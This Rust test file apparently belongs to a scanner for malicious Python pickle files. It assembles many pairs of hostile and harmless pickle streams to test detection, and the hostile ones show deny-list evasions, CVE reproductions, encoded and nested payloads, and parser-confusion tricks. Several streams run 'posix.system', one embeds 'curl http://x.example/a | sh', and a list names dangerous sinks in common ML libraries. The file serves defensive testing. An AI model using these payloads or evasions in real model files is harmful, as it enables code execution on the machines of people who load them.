//! Pickles: names, memo, nesting, and what runs without `REDUCE`.

#![allow(clippy::too_many_lines, reason = "lists of cases")]

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use custos_core::finding::Severity;

use super::{Case, case};
use crate::pickle::Assembler;
use crate::tensors::arrays::npy;

const CALL: &str = "pickle/dangerous-call";

pub fn four() -> Assembler {
    Assembler::protocol(4)
}

/// Runs a command.
pub fn payload() -> Vec<u8> {
    four().call("posix", "system", "id").stop()
}

/// A dictionary.
pub fn harmless() -> Vec<u8> {
    four().raw(b"}").text("a").raw(b"K\x01s").stop()
}

// The same stream with one name or another, called with this.
fn calling(how: &dyn Fn(Assembler, &str, &str) -> Assembler, bad: (&str, &str)) -> [Vec<u8>; 2] {
    let end = |assembler: Assembler| assembler.raw(b")R").stop();
    [
        end(how(four(), bad.0, bad.1)),
        end(how(four(), "collections", "OrderedDict")),
    ]
}

fn ordered() -> Vec<u8> {
    four()
        .stack_global("collections", "OrderedDict")
        .raw(b")R")
        .stop()
}

pub fn cases() -> Vec<Case> {
    [
        names(),
        gaps(),
        memo(),
        hidden(),
        nested(),
        exhausting(),
        arrays(),
    ]
    .into_iter()
    .flatten()
    .collect()
}

fn names() -> Vec<Case> {
    let id = "name-games";
    let global = |assembler: Assembler, module: &str, name: &str| assembler.global(module, name);
    let stack =
        |assembler: Assembler, module: &str, name: &str| assembler.stack_global(module, name);
    let mut cases = vec![
        case("CVE-2025-10157", "below a denied module", CALL,
            calling(&stack, ("asyncio.unix_events", "_UnixSubprocessTransport._start"))),
        case("CVE-2025-10157", "a new module below a denied one", CALL,
            calling(&stack, ("subprocess.inner", "run"))),
        case(id, "a dotted name", CALL, calling(&global, ("builtins", "eval.__call__"))),
        case(id, "a resolver of names", CALL,
            [four().call("pkgutil", "resolve_name", "os:system").stop(), ordered()]),
        case(id, "a getter of attributes", CALL,
            [four().call("operator", "attrgetter", "system").stop(),
             four().stack_global("operator", "itemgetter").raw(b"K\x01\x85R").stop()]),
        case(id, "a caller of methods", CALL,
            [four().call("operator", "methodcaller", "system").stop(),
             four().stack_global("operator", "itemgetter").raw(b"K\x01\x85R").stop()]),
        case(id, "a partial", CALL,
            [four().stack_global("functools", "partial").stack_global("os", "system").text("id").raw(b"\x86R").stop(),
             four().stack_global("functools", "partial").stack_global("builtins", "len").raw(b"\x85R").stop()]),
        case(id, "what the program itself defines", "pickle/unknown-call",
            [four().call("__main__", "run", "curl http://x.example/a | sh").stop(),
             four().call("__main__", "Settings", "small").stop()]),
        case(id, "an old name below protocol 3", CALL,
            [b"ccommands\ngetoutput\n(S'id'\ntR.".to_vec(), b"c__builtin__\nset\n((lp0\ntR.".to_vec()]),
        case(id, "an old name that is mapped by its module", CALL,
            [b"\x80\x02curllib2\nurlopen\nX\x01\x00\x00\x00a\x85R.".to_vec(),
             b"\x80\x02ccopy_reg\n_reconstructor\ncdecimal\nDecimal\nc__builtin__\nobject\nN\x87R.".to_vec()]),
        case(id, "the table of modules is written to", "pickle/dangerous-name",
            [four().stack_global("sys", "modules").text("json").stack_global("mine", "thing").raw(b"s").stop(),
             four().raw(b"}").text("json").stack_global("collections", "OrderedDict").raw(b"s").stop()]),
        case(id, "the protocol changes in mid-stream", CALL,
            [b"\x80\x02\x80\x04cos\npath.os.system\nX\x02\x00\x00\x00id\x85R.".to_vec(), ordered()]),
    ];
    // Both names are of a listed module. Shape becomes what the function indexes.
    let builtins = |name: &str| {
        four()
            .stack_global("numpy", "size")
            .raw(b"N}")
            .text("shape")
            .stack_global("numpy", name)
            .raw(b"s\x86b0")
            .stack_global("numpy", "size")
            .stack_global("numpy", "size")
            .text("eval")
            .raw(b"\x86R")
            .text("1")
            .raw(b"\x85R")
            .stop()
    };
    cases.push(case(
        id,
        "state on a function of a listed module",
        "pickle/state-on-global",
        [
            builtins("__builtins__"),
            four()
                .stack_global("numpy", "dtype")
                .text("f8")
                .raw(b"\x89\x88\x87R")
                .stop(),
        ],
    ));
    cases
}

// What loaders and shells are called in popular packages, each called with one text.
const SINKS: [(&str, &str); 52] = [
    ("torch.utils.collect_env", "run"),
    ("multiprocessing.util", "spawnv_passfds"),
    ("mlflow.projects.backend.local", "_run_entry_point"),
    ("numpy.distutils.exec_command", "exec_command"),
    ("numpy.distutils.exec_command", "_exec_command"),
    ("numpy", "load"),
    ("numpy.lib.npyio", "recfromtxt"),
    ("numpy.lib._npyio_impl", "recfromtxt"),
    ("numpy.lib.format", "open_memmap"),
    ("numpy.ctypeslib", "load_library"),
    ("numpy.f2py.crackfortran", "myeval"),
    ("scipy.io", "loadmat"),
    ("scipy._lib._ccallback", "LowLevelCallable"),
    ("scipy.datasets", "face"),
    ("scipy.sparse", "load_npz"),
    ("scipy.sparse", "save_npz"),
    ("pandas.io.parsers.readers", "read_csv"),
    ("pandas.io.pickle", "read_pickle"),
    ("pandas.io.html", "read_html"),
    ("pandas.compat.pickle_compat", "loads"),
    ("pandas", "read_csv"),
    ("pandas.core.computation.eval", "eval"),
    ("sklearn.externals.array_api_compat", "x"),
    ("sklearn.utils._testing", "_run"),
    ("sklearn.datasets", "load_files"),
    ("torch.serialization", "load"),
    ("torch.jit", "load"),
    ("torch.hub", "load"),
    ("torch.jit.annotations", "parse_type_line"),
    ("torch.distributed.rpc", "rpc_sync"),
    ("torch.distributed.rpc.api", "remote"),
    (
        "torch.distributed.nn.api.remote_module",
        "_remote_module_receiver",
    ),
    ("tensorflow.python.saved_model.load", "load"),
    ("tensorflow.saved_model", "load"),
    (
        "tensorflow.python.checkpoint.checkpoint_management",
        "latest_checkpoint",
    ),
    ("posixpath", "expandvars"),
    ("ntpath", "expandvars"),
    ("genericpath", "exists"),
    ("_ctypes", "CFuncPtr"),
    ("tempfile", "mkstemp"),
    ("io", "open"),
    ("_io", "FileIO"),
    ("codecs", "open"),
    ("_frozen_importlib_external", "spec_from_file_location"),
    ("pip", "main"),
    ("pip._internal", "main"),
    ("importlib", "import_module"),
    ("idlelib.run", "Executive.runcode"),
    ("cProfile", "run"),
    ("timeit", "timeit"),
    ("ensurepip", "_run_pip"),
    ("bdb", "Bdb.run"),
];

fn gaps() -> Vec<Case> {
    let id = "deny-list-gaps";
    let mut cases: Vec<Case> = SINKS
        .iter()
        .map(|(module, name)| {
            let bad = four().call(module, name, "x").stop();
            case(id, format!("{module}.{name}"), CALL, [bad, ordered()])
        })
        .collect();
    cases.extend([
        case(
            "CVE-2025-1716",
            "pip.main",
            CALL,
            [four().call("pip", "main", "install x").stop(), ordered()],
        ),
        case(
            id,
            "a reader that sends",
            "pickle/dangerous-call",
            [
                four()
                    .call(
                        "pandas.io.parsers.readers",
                        "read_csv",
                        "http://x.example/?a",
                    )
                    .stop(),
                ordered(),
            ],
        ),
        case(
            id,
            "a function that nobody knows, with an address",
            "pickle/unknown-call",
            [
                four()
                    .call("somewhere.new", "fetch", "http://x.example/?a")
                    .stop(),
                four().call("somewhere.new", "fetch", "small").stop(),
            ],
        ),
        // `importlib.import_module('builtins')`, and a name that is put together.
        case(
            id,
            "a name that is joined",
            "pickle/computed-call",
            [
                four()
                    .stack_global("builtins", "getattr")
                    .call("importlib", "import_module", "builtins")
                    .stack_global("builtins", "str.join")
                    .text("")
                    .raw(b"](")
                    .text("ev")
                    .text("al")
                    .raw(b"e\x86R")
                    .raw(b"\x86R")
                    .text("1")
                    .raw(b"\x85R")
                    .stop(),
                four()
                    .stack_global("builtins", "getattr")
                    .stack_global("datetime", "datetime")
                    .text("min")
                    .raw(b"\x86R")
                    .stop(),
            ],
        ),
        case(
            "CVE-2022-45907",
            "annotations that are evaluated",
            CALL,
            [
                four()
                    .call(
                        "torch.jit.annotations",
                        "parse_type_line",
                        "# type: (x) -> y",
                    )
                    .stop(),
                ordered(),
            ],
        ),
        case(
            "CVE-2024-5480",
            "a function on another machine",
            CALL,
            [
                four()
                    .call("torch.distributed.rpc", "rpc_sync", "worker")
                    .stop(),
                ordered(),
            ],
        ),
        case(
            "CVE-2024-48063",
            "a module on another machine",
            CALL,
            [
                four()
                    .call(
                        "torch.distributed.nn.api.remote_module",
                        "_remote_module_receiver",
                        "x",
                    )
                    .stop(),
                ordered(),
            ],
        ),
        case(
            id,
            "a codec that decodes",
            "pickle/misused-call",
            [
                four()
                    .stack_global("_codecs", "encode")
                    .text("vq")
                    .text("rot13")
                    .raw(b"\x86R")
                    .stop(),
                four()
                    .stack_global("_codecs", "encode")
                    .text("vq")
                    .text("latin1")
                    .raw(b"\x86R")
                    .stop(),
            ],
        ),
    ]);
    cases
}

fn memo() -> Vec<Case> {
    let id = "memo-and-stack";
    let stored = |first: u8, second: u8| {
        four()
            .text("posix")
            .raw(b"\x940")
            .text("system")
            .raw(b"\x940")
            .text("collections")
            .raw(b"q\x050")
            .text("OrderedDict")
            .raw(b"q\x060")
            .raw(&[b'h', first, b'h', second, 0x93, b')', b'R'])
            .stop()
    };
    let id_of = |end: &[u8]| four().text("id").raw(end).stop();
    vec![
        case(
            id,
            "texts before the name are a decoy",
            CALL,
            [
                four()
                    .text("collections")
                    .text("posix")
                    .text("system")
                    .raw(b"\x93")
                    .text("id")
                    .raw(b"\x85R")
                    .stop(),
                four()
                    .text("posix")
                    .text("collections")
                    .text("OrderedDict")
                    .raw(b"\x93)R\x860")
                    .raw(b"}")
                    .stop(),
            ],
        ),
        case(
            id,
            "the name comes out of the memo",
            CALL,
            [stored(0, 1), stored(5, 6)],
        ),
        case(
            id,
            "an entry is a number first, and a name later",
            CALL,
            [
                four()
                    .raw(b"K\x01q\x000")
                    .text("posix")
                    .raw(b"q\x000h\x00")
                    .text("system")
                    .raw(b"\x93")
                    .text("id")
                    .raw(b"\x85R")
                    .stop(),
                four()
                    .raw(b"K\x01q\x000")
                    .text("collections")
                    .raw(b"q\x000h\x00")
                    .text("OrderedDict")
                    .raw(b"\x93)R")
                    .stop(),
            ],
        ),
        case(
            id,
            "bytes for a name",
            "pickle/unresolvable",
            [
                four()
                    .raw(b"C\x05posixC\x06system\x93")
                    .text("id")
                    .raw(b"\x85R")
                    .stop(),
                four().raw(b"C\x05posixC\x06system\x86").stop(),
            ],
        ),
        case(
            id,
            "an entry that nobody put",
            "pickle/unresolvable",
            [
                four().raw(b"h\x09").text("id").raw(b"\x85R").stop(),
                four().raw(b"K\x01q\x09h\x09\x86").stop(),
            ],
        ),
        case(
            id,
            "the memo counts entries",
            CALL,
            [
                four()
                    .text("posix")
                    .raw(b"q\x050")
                    .text("system")
                    .raw(b"\x940h\x05h\x01\x93")
                    .text("id")
                    .raw(b"\x85R")
                    .stop(),
                four()
                    .text("collections")
                    .raw(b"q\x050")
                    .text("OrderedDict")
                    .raw(b"\x940h\x05h\x01\x93)R")
                    .stop(),
            ],
        ),
        case(
            id,
            "the outcome is thrown away",
            CALL,
            [
                four().call("posix", "system", "id").raw(b"0}").stop(),
                four().text("id").raw(b"0}").stop(),
            ],
        ),
        case(
            id,
            "OBJ",
            CALL,
            [
                four()
                    .raw(b"(")
                    .global("posix", "system")
                    .text("id")
                    .raw(b"o")
                    .stop(),
                four()
                    .raw(b"(")
                    .global("collections", "OrderedDict")
                    .raw(b"o")
                    .stop(),
            ],
        ),
        case(
            id,
            "INST",
            CALL,
            [
                four().raw(b"(").text("id").raw(b"iposix\nsystem\n").stop(),
                four().raw(b"(icollections\nOrderedDict\n").stop(),
            ],
        ),
        case(
            id,
            "NEWOBJ_EX",
            CALL,
            [
                four()
                    .stack_global("posix", "system")
                    .text("id")
                    .raw(b"\x85}\x92")
                    .stop(),
                four()
                    .stack_global("collections", "OrderedDict")
                    .raw(b")}\x92")
                    .stop(),
            ],
        ),
        case(
            id,
            "the extension registry",
            "pickle/computed-call",
            [
                four().raw(b"\x82\x01").text("id").raw(b"\x85R").stop(),
                id_of(b"\x85"),
            ],
        ),
        case(
            id,
            "an object that the reader makes",
            "pickle/computed-call",
            [
                four().text("x").raw(b"Q").text("id").raw(b"\x85R").stop(),
                id_of(b"\x85"),
            ],
        ),
    ]
}

fn hidden() -> Vec<Case> {
    let id = "calls-that-are-not-reduce";
    vec![
        case(
            id,
            "BUILD on a function",
            "pickle/state-on-global",
            [
                four()
                    .stack_global("numpy", "size")
                    .raw(b"}")
                    .text("shape")
                    .raw(b"K\x01sb")
                    .stop(),
                four()
                    .stack_global("collections", "OrderedDict")
                    .raw(b")R}")
                    .text("shape")
                    .raw(b"K\x01sb")
                    .stop(),
            ],
        ),
        case(
            id,
            "SETITEM on a class",
            "pickle/state-on-global",
            [
                four()
                    .stack_global("collections", "OrderedDict")
                    .raw(b"K\x01K\x02s")
                    .stop(),
                four()
                    .stack_global("collections", "OrderedDict")
                    .raw(b")RK\x01K\x02s")
                    .stop(),
            ],
        ),
        case(
            id,
            "APPENDS on something unknown",
            "pickle/hidden-call",
            [
                four()
                    .stack_global("mine", "Sink")
                    .raw(b")\x81(")
                    .text("a")
                    .raw(b"e")
                    .stop(),
                four()
                    .stack_global("collections", "deque")
                    .raw(b")R(")
                    .text("a")
                    .raw(b"e")
                    .stop(),
            ],
        )
        .at(Severity::Medium),
        case(
            id,
            "ADDITEMS on something unknown",
            "pickle/hidden-call",
            [
                four()
                    .stack_global("mine", "Sink")
                    .raw(b")\x81(")
                    .text("a")
                    .raw(b"\x90")
                    .stop(),
                four().raw(b"\x8f(").text("a").raw(b"\x90").stop(),
            ],
        )
        .at(Severity::Medium),
        case(
            id,
            "SETITEMS on something unknown",
            "pickle/hidden-call",
            [
                four()
                    .stack_global("mine", "Sink")
                    .raw(b")\x81(")
                    .text("a")
                    .raw(b"K\x01u")
                    .stop(),
                four().raw(b"}(").text("a").raw(b"K\x01u").stop(),
            ],
        )
        .at(Severity::Medium),
    ]
}

fn bytes_in(stream: &[u8]) -> Assembler {
    let len = u8::try_from(stream.len()).unwrap();
    four().raw(&[b'C', len]).raw(stream)
}

fn nested() -> Vec<Case> {
    let id = "nesting";
    let loaded = |module: &str, name: &str, stream: &[u8]| {
        let len = u8::try_from(stream.len()).unwrap();
        four()
            .stack_global(module, name)
            .raw(&[b'C', len])
            .raw(stream)
            .raw(b"\x85R")
            .stop()
    };
    let text = |stream: &[u8]| {
        four()
            .raw(b"}")
            .text("a")
            .text(&STANDARD.encode(stream))
            .raw(b"s")
            .stop()
    };
    let hex = |stream: &[u8]| {
        let digits: Vec<String> = stream.iter().map(|byte| format!("{byte:02x}")).collect();
        let digits = digits.concat();
        four().raw(b"}").text("a").text(&digits).raw(b"s").stop()
    };
    let joined = |first: Vec<u8>, second: Vec<u8>| [first, second].concat();
    vec![
        case(
            id,
            "given to a loader",
            CALL,
            [
                loaded("pickle", "loads", &payload()),
                bytes_in(&harmless()).stop(),
            ],
        ),
        case(
            id,
            "an array of objects in bytes",
            CALL,
            [
                bytes_in(&npy("'|O'", "(1,)", &payload())).stop(),
                bytes_in(&npy("'<f8'", "(2, 3)", &[0; 48])).stop(),
            ],
        ),
        case(
            id,
            "an array of objects in base64",
            CALL,
            [
                text(&npy("'|O'", "(1,)", &payload())),
                text(&npy("'<f8'", "(2, 3)", &[0; 48])),
            ],
        ),
        case(
            id,
            "given to the loader of torch",
            CALL,
            [
                loaded("torch.storage", "_load_from_bytes", &payload()),
                bytes_in(&harmless()).stop(),
            ],
        ),
        case(
            id,
            "bytes that nothing loads",
            CALL,
            [bytes_in(&payload()).stop(), bytes_in(&harmless()).stop()],
        ),
        case(id, "in base64", CALL, [text(&payload()), text(&harmless())]),
        case(
            id,
            "in hexadecimal digits",
            CALL,
            [hex(&payload()), hex(&harmless())],
        ),
        case(
            id,
            "behind another stream",
            CALL,
            [
                joined(harmless(), payload()),
                joined(harmless(), harmless()),
            ],
        ),
        case(
            id,
            "before another stream",
            CALL,
            [
                joined(payload(), harmless()),
                joined(harmless(), harmless()),
            ],
        ),
        case(
            id,
            "behind another file",
            CALL,
            [
                joined(crate::tensors::gguf::Gguf::sample().bytes(), payload()),
                joined(crate::tensors::gguf::Gguf::sample().bytes(), harmless()),
            ],
        ),
        case(
            "parse-divergence",
            "a stream that breaks behind its payload",
            CALL,
            [
                joined(
                    four().call("posix", "system", "id").raw(b"").stop(),
                    b"\xff\xff".to_vec(),
                ),
                joined(harmless(), b"\xff\xff".to_vec()),
            ],
        )
        .unreadable(),
        case(
            "parse-divergence",
            "a stream that breaks before its end",
            CALL,
            [
                four().call("posix", "system", "id").raw(b"\xff").stop(),
                four().raw(b"}\xff").stop(),
            ],
        )
        .unreadable(),
        case(
            "parse-divergence",
            "a frame that is too short",
            CALL,
            [
                four()
                    .raw(b"\x95\x03\0\0\0\0\0\0\0")
                    .call("posix", "system", "id")
                    .stop(),
                four()
                    .raw(b"\x95\x03\0\0\0\0\0\0\0}")
                    .text("a")
                    .raw(b"K\x01s")
                    .stop(),
            ],
        ),
        case(
            "parse-divergence",
            "a frame that is too long",
            CALL,
            [
                four()
                    .raw(b"\x95\xff\0\0\0\0\0\0\0")
                    .call("posix", "system", "id")
                    .stop(),
                four()
                    .raw(b"\x95\xff\0\0\0\0\0\0\0}")
                    .text("a")
                    .raw(b"K\x01s")
                    .stop(),
            ],
        ),
    ]
}

fn exhausting() -> Vec<Case> {
    let id = "denial-of-service";
    let deep = |end: &[u8]| {
        let open = b"]".repeat(100_000);
        let close = b"a".repeat(99_999);
        four().raw(&open).raw(&close).raw(end).stop()
    };
    let system = four().call("posix", "system", "id").raw(b"0").stop()[2..].to_vec();
    let mut laughs = four().raw(b"]q\x00");
    for level in 0..40_u8 {
        laughs = laughs.raw(b"](");
        for _ in 0..10 {
            laughs = laughs.raw(&[b'h', level]);
        }
        laughs = laughs.raw(&[b'e', b'q', level + 1]);
    }
    vec![
        case(
            id,
            "a memo index of hundreds of millions",
            "pickle/exhaustion",
            [
                four().raw(b"}r\xff\xff\xff\x1f").stop(),
                four().raw(b"}r\xff\0\0\0").stop(),
            ],
        ),
        case(
            id,
            "a call below a hundred thousand lists",
            CALL,
            [deep(&system[..system.len() - 1]), deep(b"")],
        ),
        case(
            id,
            "lists of lists of lists",
            CALL,
            [
                laughs.clone().raw(&system[..system.len() - 1]).stop(),
                laughs.stop(),
            ],
        ),
        case(
            id,
            "a number longer than the file",
            CALL,
            [
                four()
                    .call("posix", "system", "id")
                    .raw(b"\x8b\xff\xff\xff\x7f")
                    .stop(),
                four().raw(b"}\x8b\xff\xff\xff\x7f").stop(),
            ],
        )
        .unreadable(),
    ]
}

// What joblib writes: an object, its state, and the bytes of an array behind that.
struct Array {
    class: &'static [u8],
    shape: &'static [u8],
    // Of the type: its name, and its state.
    kind: (&'static str, &'static [u8]),
    twice: &'static [u8],
    bytes: Vec<u8>,
}

impl Array {
    fn of(bytes: Vec<u8>) -> Self {
        Self {
            class: b")\x81",
            shape: b"K\x18\x85",
            kind: (
                "u1",
                b"(K\x03X\x01\0\0\0|NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\0tb",
            ),
            twice: b"",
            bytes,
        }
    }

    fn stop(&self) -> Vec<u8> {
        four()
            .stack_global("joblib.numpy_pickle", "NumpyArrayWrapper")
            .raw(self.class)
            .raw(b"}(")
            .text("subclass")
            .stack_global("numpy", "ndarray")
            .text("shape")
            .raw(self.shape)
            .text("order")
            .text("C")
            .text("dtype")
            .stack_global("numpy", "dtype")
            .text(self.kind.0)
            .raw(b"\x89\x88\x87R")
            .raw(self.kind.1)
            .raw(self.twice)
            .raw(b"ub")
            .raw(&self.bytes)
            .stop()
    }
}

fn arrays() -> Vec<Case> {
    let id = "arrays-in-streams";
    let call = four().call("posix", "system", "id").raw(b"0").stop()[2..].to_vec();
    let call = call[..call.len() - 1].to_vec();
    let filled = |bytes: &[u8]| {
        let mut out = bytes.to_vec();
        out.resize(64, b'N');
        out
    };
    let plain = || Array::of(vec![7; 24]).stop();
    // The loader takes more or less of the file for the array than its first words say, and runs
    // what a reader of those words takes for a text.
    let hiding = |before: usize| {
        let mut bytes = vec![7; before];
        bytes.extend([0x8c, u8::try_from(call.len()).unwrap()]);
        bytes.extend(&call);
        bytes
    };
    vec![
        case(
            id,
            "bytes of an array that a plain reader runs",
            CALL,
            [
                Array {
                    shape: b"K\x40\x85",
                    ..Array::of(filled(&call))
                }
                .stop(),
                plain(),
            ],
        ),
        case(
            id,
            "a type whose state says another size",
            CALL,
            [
                Array {
                    kind: ("V24", b"(K\x03X\x01\0\0\0|NNNK\x1aK\x01K\0tb"),
                    shape: b"K\x01\x85",
                    ..Array::of(hiding(24))
                }
                .stop(),
                Array {
                    kind: ("V24", b"(K\x03X\x01\0\0\0|NNNK\x18K\x01K\0tb"),
                    shape: b"K\x01\x85",
                    ..Array::of(vec![7; 24])
                }
                .stop(),
            ],
        ),
        case(
            id,
            "a type whose flags say objects",
            CALL,
            [
                Array {
                    kind: ("V24", b"(K\x03X\x01\0\0\0|NNNK\x18K\x01K\x3ftb"),
                    shape: b"K\x01\x85",
                    ..Array::of(payload())
                }
                .stop(),
                Array {
                    kind: (
                        "O8",
                        b"(K\x03X\x01\0\0\0|NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x3ftb",
                    ),
                    shape: b"K\x01\x85",
                    ..Array::of(harmless())
                }
                .stop(),
            ],
        ),
        case(
            id,
            "a shape that is said twice",
            CALL,
            [
                Array {
                    twice: b"X\x05\0\0\0shapeK\x1a\x85",
                    ..Array::of(hiding(24))
                }
                .stop(),
                Array {
                    twice: b"X\x05\0\0\0shapeK\x18\x85",
                    ..Array::of(vec![7; 24])
                }
                .stop(),
            ],
        ),
        case(
            id,
            "an array that is called",
            "pickle/misused-call",
            [
                Array {
                    class: b"(NNNNtR",
                    ..Array::of(vec![7; 24])
                }
                .stop(),
                plain(),
            ],
        ),
    ]
}
